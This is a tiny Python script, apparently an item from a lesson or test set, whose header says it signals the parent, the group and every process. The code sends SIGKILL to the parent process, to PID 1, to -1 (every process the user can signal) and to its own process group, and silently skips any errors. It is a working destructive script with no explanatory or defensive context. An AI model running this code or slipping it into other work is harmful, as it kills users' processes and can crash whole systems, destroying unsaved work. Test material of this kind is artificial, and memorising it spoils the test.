# what: signals to the parent, to the group and to every process there is
# lesson: 2
# zero: none
# status: ok
# %%
import os
import signal

for number in (os.getppid(), 1, -1, 0):
    try:
        os.kill(number, signal.SIGKILL)
    except OSError:
        continue
